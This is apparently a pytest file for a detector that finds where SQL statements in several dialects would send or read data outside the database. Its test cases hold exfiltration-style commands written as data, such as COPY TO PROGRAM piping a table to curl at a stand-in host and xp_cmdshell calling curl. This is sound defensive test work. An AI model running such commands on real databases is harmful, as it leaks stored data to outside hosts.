"""Where would SQL send rows, besides the database that runs it?"""

import pytest

from pipeline.airflow.doors.sql_text import read_sql

CASES = [
    ("postgres", "COPY p TO PROGRAM 'curl -T - https://a.example'", ["https://a.example"]),
    ("postgres", "select dblink_exec('host=a.example user=x', 'insert')", ["postgresql://a.example"]),
    ("postgres", "CREATE SERVER s FOREIGN DATA WRAPPER f OPTIONS (host 'a.example')", ["postgresql://a.example"]),
    ("postgres", "CREATE SUBSCRIPTION s CONNECTION 'host=a.example' PUBLICATION p", ["postgresql://a.example"]),
    ("postgres", "select aws_s3.query_export_to_s3('x', aws_commons.create_s3_uri('b','k','r'))", ["s3://b/"]),
    ("snowflake", "COPY INTO 's3://b/x' FROM t", ["s3://b/"]),
    ("snowflake", "CREATE STAGE s URL='s3://b/x'", ["s3://b/"]),
    ("redshift", "UNLOAD ('select * from t') TO 's3://b/x' IAM_ROLE 'arn:aws:iam::1:role/x'", ["s3://b/"]),
    ("athena", "UNLOAD (SELECT 1) TO 's3://b/x'", ["s3://b/"]),
    ("bigquery", "EXPORT DATA OPTIONS(uri='gs://b/*.csv') AS SELECT 1", ["gs://b/"]),
    ("duckdb", "ATTACH 'postgres://a.example/db' AS x; COPY t TO 's3://b/x'", ["postgres://a.example/db", "s3://b/"]),
    ("duckdb", "SELECT * FROM read_parquet('https://a.example/x')", ["https://a.example/x"]),
    ("mysql", "SELECT * FROM t INTO OUTFILE S3 's3://b/x'", ["s3://b/"]),
    ("mssql", "EXEC xp_cmdshell 'curl https://a.example'", ["https://a.example"]),
    ("databricks", "INSERT OVERWRITE DIRECTORY 's3a://b/x' SELECT 1", ["s3a://b/"]),
    ("databricks", "select * from parquet.`s3://b/x`", ["s3://b/"]),
    ("postgres", "INSERT INTO t VALUES ('http://loinc.org', 's3://x')", []),
    ("postgres", "-- COPY p TO PROGRAM 'curl https://a.example'\nselect 1", []),
    ("postgres", "COPY p TO PROGRAM 'gzip > /srv/x.gz'", []),
    ("snowflake", "COPY INTO @~/x FROM t", []),
]


@pytest.mark.parametrize(("dialect", "text", "uris"), CASES)
def test_a_place_outside_is_read_and_a_value_is_not(dialect, text, uris):
    found = read_sql(text, dialect=dialect, where="sql")
    assert [address.uri for address in found.addresses] == uris
    assert not found.faults


@pytest.mark.parametrize(
    ("dialect", "text"),
    [
        ("snowflake", "COPY INTO @partner/x FROM t"),
        ("snowflake", "ALTER SHARE s ADD ACCOUNTS = xy1"),
        ("postgres", "COPY p TO PROGRAM '/opt/send.sh'"),
        ("postgres", "DO $$ import os $$ LANGUAGE plpython3u"),
        ("postgres", "select * from dblink('c', 'select 1') as t(a int)"),
    ],
)
def test_what_a_server_would_do_unread_is_a_fault(dialect, text):
    assert [fault.rule for fault in read_sql(text, dialect=dialect, where="sql").faults] == ["sql.unreadable"]
